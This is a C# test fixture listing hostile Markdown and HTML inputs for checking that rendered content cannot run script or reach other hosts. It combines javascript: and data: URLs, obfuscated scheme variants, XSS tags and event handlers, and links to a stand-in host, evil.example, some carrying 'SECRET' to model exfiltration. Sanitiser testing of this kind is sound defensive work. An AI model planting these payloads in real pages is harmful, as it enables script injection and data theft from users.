namespace AgentFlow.Tests.Web.Markdown;

/// <summary>Texts that try to run a script or to reach another host, as a model, a document, a file name or a memory could carry them.</summary>
internal static class HostilePayloads
{
    private static readonly string[] Addresses =
    [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "&#106;avascript:alert(1)", "javascript&colon;alert(1)",
        "\u0001javascript:alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "blob:https://evil.example/1", "file:///etc/passwd", "//evil.example/x", "\\\\evil.example\\x", "https://evil.example/?q=SECRET", "http://evil.example#SECRET",
        "https://good.example@evil.example/", "https://evil.example%2f@good.example/", "https:evil.example", "ftp://evil.example/", "ws://evil.example/", "intent://evil.example#Intent;end",
    ];

    private static readonly string[] Shapes =
    [
        "[click]({0})", "![pixel]({0})", "<{0}>", "[click][1]\n\n[1]: {0}", "![pixel][1]\n\n[1]: {0} \"t\"", "[![pixel]({0})]({0})", "| a |\n|---|\n| ![x]({0}) |",
    ];

    private static readonly string[] Html =
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>", "<img src=https://evil.example/p.png>", "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>", "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=https://evil.example/x></object>",
        "<embed src=https://evil.example/x>", "<link rel=stylesheet href=https://evil.example/x.css>", "<style>@import 'https://evil.example/x.css';</style>",
        "<style>body{background:url(https://evil.example/x)}</style>", "<div style=\"background:url(https://evil.example/x)\">x</div>", "<base href=https://evil.example/>",
        "<meta http-equiv=refresh content='0;url=https://evil.example/'>", "<form action=https://evil.example/><button>x</button></form>", "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>x</details>", "<video poster=https://evil.example/x><source onerror=alert(1)></video>", "<audio src=https://evil.example/x autoplay>",
        "<a href=javascript:alert(1)>x</a>", "<a href=https://evil.example ping=https://evil.example/p>x</a>", "<math><mtext><script>alert(1)</script></mtext></math>",
        "<template><script>alert(1)</script></template>", "<noscript><img src=x onerror=alert(1)></noscript>", "<!--<script>-->alert(1)<!--</script>-->", "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version=1.0?><script>alert(1)</script>", "</div></article><script>alert(1)</script>", "<img/src=\"x\"/onerror=alert(1)//", "<<script>alert(1)//<</script>", "<x onclick=alert(1)>x</x>",
    ];

    private static readonly string[] Places =
    [
        "{0}", "> {0}", "- {0}\n- two", "# {0}", "```html\n{0}\n```", "`{0}`", "**{0}**", "| {0} | b |\n|---|---|\n| {0} | c |", "text {0} text [1] {0}",
    ];

    /// <summary>Every address in every shape, and every piece of HTML in every place: 451 texts.</summary>
    public static IReadOnlyList<string> All { get; } =
    [
        .. from address in Addresses from shape in Shapes select shape.Replace("{0}", address, StringComparison.Ordinal),
        .. from html in Html from place in Places select place.Replace("{0}", html, StringComparison.Ordinal),
    ];
}
